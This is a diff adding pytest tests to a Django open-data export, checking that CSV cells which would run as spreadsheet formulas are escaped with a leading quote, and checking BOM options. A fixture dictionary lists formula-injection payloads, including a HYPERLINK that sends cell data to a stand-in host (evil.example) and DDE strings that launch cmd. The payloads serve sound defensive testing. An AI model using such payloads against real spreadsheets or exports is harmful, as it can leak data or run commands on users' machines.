@@ -128,3 +128,73 @@ def test_export_command_refuses_an_unknown_district(
     assert not (tmp_path / "cases.csv").exists()
     chatuchak = json.loads(export(tmp_path, "geojson", "--district", "Chatu Chak").read_bytes())
     assert [f["properties"]["district"] for f in chatuchak["features"]] == ["จตุจักร"]
+
+
+FORMULAS = {
+    '=HYPERLINK("http://evil.example/?d="&A1,"click")': "'=HYPERLINK(",
+    "+cmd|' /C calc'!A0": "'+cmd",
+    "-2+3+cmd|' /C calc'!A0": "'-2+3",
+    "@SUM(1+1)*cmd": "'@SUM",
+    "\t=1+1": "'\t=1+1",
+    "\r=1+1": "'\n=1+1",  # a bare CR would split the row in readers: it becomes a newline
+}
+
+
+def csv_rows(raw: bytes) -> dict[str, dict[str, str]]:
+    return {r["ticket_id"]: r for r in csv.DictReader(io.StringIO(raw.decode("utf-8-sig")))}
+
+
+@pytest.fixture
+def formulas(make_case: Callable[..., Case]) -> dict[str, str]:
+    """Cases whose description (and one address) would run as a spreadsheet formula."""
+    made = {make_case(description=text).ticket_id: text for text in FORMULAS}
+    negative = make_case(description="-12.5", address="=1+1")
+    # Negative coordinates (not in Thailand, so set directly): numbers that must stay numbers.
+    Case.objects.filter(pk=negative.pk).update(lat=-33.5, lon=-70.25)
+    made[negative.ticket_id] = "-12.5"
+    return made
+
+
+def test_csv_cells_that_would_run_as_formulas_start_with_a_quote(
+    api: Client, formulas: dict[str, str]
+) -> None:
+    rows = csv_rows(body(api, "/api/v1/open-data/cases.csv"))
+    for ticket_id, text in formulas.items():
+        if text in FORMULAS:
+            assert rows[ticket_id]["description"] == "'" + text.replace("\r", "\n")
+            assert rows[ticket_id]["description"].startswith(FORMULAS[text])
+    # Numbers stay numbers: negative coordinates, and a description that is just a number.
+    plain = next(r for r in rows.values() if r["description"] == "-12.5")
+    assert (plain["lat"], plain["lon"]) == ("-33.5", "-70.25")
+    assert plain["address"] == "'=1+1"
+    # Machine formats keep the text as written.
+    served = json.loads(body(api, "/api/v1/open-data/cases.geojson"))
+    texts = {f["properties"]["description"] for f in served["features"]}
+    assert set(FORMULAS) <= texts
+
+
+def test_bom_only_when_asked_and_export_matches(
+    api: Client, formulas: dict[str, str], tmp_path: Path
+) -> None:
+    plain = body(api, "/api/v1/open-data/cases.csv")
+    excel = body(api, "/api/v1/open-data/cases.csv?bom=1")
+    assert not plain.startswith(b"\xef\xbb\xbf")  # machine readers get the header as-is
+    assert excel == b"\xef\xbb\xbf" + plain
+    assert body(api, "/api/v1/open-data/cases.csv?bom=0") == plain
+    assert export(tmp_path, "csv").read_bytes() == plain
+    assert export(tmp_path, "csv", "--bom").read_bytes() == excel
+    with pytest.raises(CommandError, match="--bom"):
+        export(tmp_path, "geojson", "--bom")
+
+
+@pytest.mark.parametrize(
+    "url", ["/api/v1/open-data/cases.csv?bom=yes", "/api/v1/open-data/cases.geojson?bom=1"]
+)
+def test_a_bad_bom_parameter_is_refused(api: Client, db: None, url: str) -> None:
+    response = api.get(url)
+    assert response.status_code == 400
+    assert response.json()["field"] == "bom"
+
+
+def test_the_dashboard_links_people_to_the_excel_friendly_csv(api: Client, db: None) -> None:
+    assert 'href="/api/v1/open-data/cases.csv?bom=1&amp;' in api.get("/dashboard/").content.decode()
